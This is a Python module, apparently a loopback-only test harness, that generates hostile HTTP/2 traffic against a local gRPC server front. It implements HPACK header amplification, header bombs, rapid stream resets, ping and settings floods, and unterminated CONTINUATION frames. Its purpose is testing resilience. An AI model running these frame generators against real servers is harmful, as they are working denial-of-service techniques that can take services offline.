"""An HTTP/2 peer that means no good, before anybody has asked who it is: what a front must stand.

Each attack is a generator of frames over one connection; `Attacker` says them, reads what comes back, and
stops by itself: at so many bytes, when it is hung up on, or when nothing more is taken. Loopback only.

| attack               | what it does                                     | what bounds it
|
|----------------------|--------------------------------------------------|---------------------------------------|
| `amplified_calls`    | calls that never end, each with large headers    | streams at once, bytes of
headers     |
|                      | said by a byte (HPACK's dynamic table)           |
|
| `small_headers`      | calls with as many tiny headers as fit           | the same: a header counts 32 B
more   |
| `header_bombs`       | blocks of thousands of references to 4 KB        | header list size, told or hung
up on  |
| `rapid_resets`       | calls that are taken back at once                | resets, streams that are ending
|
| `pings`, `settings`  | frames that want an answer each                  | ping strikes, what waits to be
written|
| `unfinished_headers` | CONTINUATION frames without end                  | bytes of headers
|

HPACK as in RFC 7541: literals without Huffman's code; frames as in RFC 9113, 4.1.
"""

from __future__ import annotations

import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_CONCURRENT_STREAMS, MAX_HEADER_LIST_SIZE = 3, 6
NO_LIMIT = 2**32 - 1
PATH = "/apache.rocketmq.v2.MessagingService/QueryRoute"
NEWEST_IN_TABLE = b"\xbe"  # index 62, RFC 7541, 6.1
LARGE_BYTES = 3_900
"""A header that just fits into the dynamic table of 4,096 bytes."""

Frames = Iterator[bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame."""
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def literal(name: str, value: str, *, is_kept: bool = False) -> bytes:
    """A header as HPACK has it, entered into the dynamic table if it is kept."""
    return (b"\x40" if is_kept else b"\x00") + text(name) + text(value)


def text(content: str) -> bytes:
    """A string behind its length (RFC 7541, 5.2)."""
    length, written = len(content), bytearray()
    if length < 127:
        return bytes((length,)) + content.encode()
    written.append(127)
    length -= 127
    while length >= 128:
        written.append(length & 127 | 128)
        length >>= 7
    return bytes((*written, length)) + content.encode()


CALL = b"".join(
    literal(*one)
    for one in (
        (":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "localhost"),
        ("te", "trailers"), ("content-type", "application/grpc"),
    )
)  # fmt: skip
"""The headers of a call of QueryRoute."""


def amplified_calls() -> Frames:
    """Calls that never end, with 3 headers of 3.9 KB that take a byte each from the second call on."""
    yield frame(HEADERS, END_HEADERS, 1, CALL + literal("x-large", "a" * LARGE_BYTES, is_kept=True))
    for stream in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + 3 * NEWEST_IN_TABLE)


def small_headers() -> Frames:
    """Calls that never end, with 200 headers of no value, which take a byte each from the second call on."""
    yield frame(HEADERS, END_HEADERS, 1, CALL + literal("x", "", is_kept=True))
    for stream in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + 200 * NEWEST_IN_TABLE)


def header_bombs() -> Frames:
    """Calls whose 16,000 bytes of headers stand for 62 MB."""
    yield frame(HEADERS, END_HEADERS, 1, CALL + literal("x-large", "a" * LARGE_BYTES, is_kept=True))
    for stream in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + 16_000 * NEWEST_IN_TABLE)


def rapid_resets() -> Frames:
    """Calls that are taken back at once."""
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def pings() -> Frames:
    """Pings, each to be answered."""
    while True:
        yield frame(PING, 0, 0, bytes(8))


def settings() -> Frames:
    """Settings, each to be confirmed."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))


def unfinished_headers() -> Frames:
    """One header block without an end."""
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1, literal("x-more", "a" * 8_000))


ATTACKS: dict[str, Callable[[], Frames]] = {
    one.__name__: one
    for one in (
        amplified_calls, small_headers, header_bombs, rapid_resets, pings, settings, unfinished_headers
    )
}  # fmt: skip


@dataclass
class Attacker:
    """One connection. `told` are the settings of the other side, `answers` its frames by type."""

    address: tuple[str, int]
    bytes_max: int
    seconds_max: float = 10.0
    sent_bytes: int = 0
    opened: int = 0
    told: dict[int, int] = field(default_factory=dict)
    answers: Counter[int] = field(default_factory=Counter)
    ended_streams: set[int] = field(default_factory=set)
    goaway: str = ""
    is_hung_up: bool = False
    _pending: bytes = b""

    def __post_init__(self) -> None:
        """Connect and exchange settings."""
        assert self.address[0] in ("127.0.0.1", "localhost"), "it attacks this machine only"
        self._socket = socket.create_connection(self.address, self.seconds_max)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        while SETTINGS not in self.answers and not self.is_hung_up:
            self._read(self.seconds_max)

    def attack(self, frames: Frames) -> None:
        """Say frames until it is enough; calls are opened beyond any number that was told."""
        ends_at = time.monotonic() + self.seconds_max
        waiting, may_say = b"", iter(frames)
        while not self.is_hung_up and time.monotonic() < ends_at:
            while len(waiting) < 64 * 1024 and self.sent_bytes + len(waiting) < self.bytes_max:
                one = next(may_say)
                self.opened += one[3] == HEADERS
                waiting += one
            if not waiting:
                break
            waiting = waiting[self._say(waiting) :]
            self._read(0)
        for _ in range(4):
            if self.is_hung_up:
                break
            self._read(0.05)

    @property
    def open_count(self) -> int:
        """How many calls it holds open, as far as it was told."""
        return 0 if self.is_hung_up else self.opened - len(self.ended_streams)

    @property
    def concurrent_max(self) -> int:
        """How many calls at once the other side says that it takes."""
        return self.told.get(MAX_CONCURRENT_STREAMS, NO_LIMIT)

    def close(self) -> None:
        """Hang up."""
        self._socket.close()

    def _say(self, content: bytes) -> int:
        self._socket.settimeout(0.05)
        try:
            count = self._socket.send(content)
        except TimeoutError:
            count = 0
        except OSError:
            self.is_hung_up, count = True, len(content)
        self.sent_bytes += count
        return count

    def _read(self, seconds: float) -> None:
        self._socket.settimeout(max(seconds, 0.000_001))
        try:
            data = self._socket.recv(1 << 16)
        except (TimeoutError, BlockingIOError):
            return
        except OSError:
            data = b""
        self.is_hung_up |= not data
        self._pending += data
        while len(self._pending) >= 9:
            length = int.from_bytes(self._pending[:3], "big")
            if len(self._pending) < 9 + length:
                return
            kind, flags = self._pending[3], self._pending[4]
            stream = int.from_bytes(self._pending[5:9], "big")
            self._take(kind, flags, stream, self._pending[9 : 9 + length])
            self._pending = self._pending[9 + length :]

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        self.answers[kind] += 1
        if kind == SETTINGS and not flags & ACK:
            self.told |= dict(struct.iter_unpack(">HI", payload))
        elif kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM):
            self.ended_streams.add(stream)
        elif kind == GOAWAY:
            self.goaway = payload[8:].decode(errors="replace")
